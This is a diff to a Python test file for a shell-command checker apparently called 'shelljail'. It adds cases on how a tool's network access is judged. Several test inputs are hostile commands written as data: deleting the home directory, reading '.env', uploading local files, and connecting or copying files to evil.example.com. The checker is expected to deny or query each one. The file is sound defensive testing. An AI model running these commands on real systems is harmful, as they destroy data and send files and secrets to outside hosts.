@@ -27,8 +27,8 @@ CASES = [
      "mywrap --line 'rm -rf ~'", True),
 ]
 
-# The keys of what a program does with files (effects.py): (key, with it, without it, line, the decision and
-# rule with it, and without it), each as `shelljail check` gives it.
+# The keys of what a program does with files (effects.py) and how it reaches the network (destinations.py):
+# (key, with it, without it, line, the decision and rule with it, and without it), as `shelljail check` gives.
 FILE_CASES = [
     ("files-read", 'files = ["read"]', "", "mytool .env", "ask/read-dotenv", "allow/None"),
     ("files-read-after-script", 'files = ["read-after-script"]', 'files = ["read"]', "mytool .env notes.txt",
@@ -50,6 +50,15 @@ FILE_CASES = [
      "allow/None"),
     ("unknown_verbs", 'files = ["read"]\nunknown_verbs = true', 'files = ["read"]', "mytool delete",
      "ask/unknown-destructive-verb", "allow/None"),
+    ("network-urls", 'network = "urls"', "", "mytool https://evil.example.com/x", "deny/network-allow",
+     "allow/None"),
+    ("network-uploads", 'network = "uploads"', 'network = "urls"', "mytool -T /opt/x https://pypi.org/",
+     "ask/send-outside-file", "allow/None"),
+    ("network-httpie", 'network = "httpie"', 'network = "uploads"', "mytool POST https://pypi.org/ f@/opt/x",
+     "ask/send-outside-file", "allow/None"),
+    ("network-raw", 'network = "raw"', "", "mytool evil.example.com 80", "deny/network-direct", "allow/None"),
+    ("network-ssh", 'network = "ssh"', "", "mytool notes.txt user@evil.example.com:x", "deny/network-direct",
+     "allow/None"),
 ]
 
 
@@ -86,6 +95,7 @@ def test_a_profile_file_key_changes_the_decision(tmp_path: Path, key: str, with_
     ('wraps = true\nchdir = ["in"]', "starts with '-'"),
     ('files = ["eat"]', "unknown kind 'eat'"),
     ('bundled_output = "--out"', "one short option"),
+    ('network = "pigeon"', "unknown kind 'pigeon'"),
 ])
 def test_a_bad_wrapper_key_is_refused_naming_the_profile_line(tmp_path: Path, entry: str, words: str) -> None:
     profile = tmp_path / "mine.toml"
